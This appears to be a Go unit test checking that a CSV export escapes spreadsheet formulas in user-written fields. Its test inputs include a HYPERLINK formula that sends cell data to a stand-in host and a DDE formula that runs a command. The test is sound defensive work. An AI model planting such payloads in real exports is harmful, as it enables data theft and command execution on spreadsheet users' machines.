package render

import (
	"bytes"
	"encoding/csv"
	"testing"
)

// TestProjectsCSVHasNoFormulas checks that text a project's author wrote
// cannot become a formula in a funder's spreadsheet: a cell starting with
// = + - @ gets a leading apostrophe, numbers stay numbers.
func TestProjectsCSVHasNoFormulas(t *testing.T) {
	out, err := ProjectsCSV([]ProjectRecord{{
		Title: `=HYPERLINK("https://evil.example/?"&A1,"Open")`, Community: "=cmd|' /C calc'!A0",
		Funder: "+1 funder", Leaders: []string{"@someone"}, Status: "funded", Requested: -5, Currency: "CNY",
	}})
	if err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(bytes.NewReader(out)).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("%v %q", err, out)
	}
	row := rows[1]
	for i, want := range map[int]string{0: `'=HYPERLINK("https://evil.example/?"&A1,"Open")`, 4: "'+1 funder", 5: "'=cmd|' /C calc'!A0", 7: "'@someone", 2: "funded", 10: "-5"} {
		if row[i] != want {
			t.Errorf("column %s = %q, want %q", rows[0][i], row[i], want)
		}
	}
}
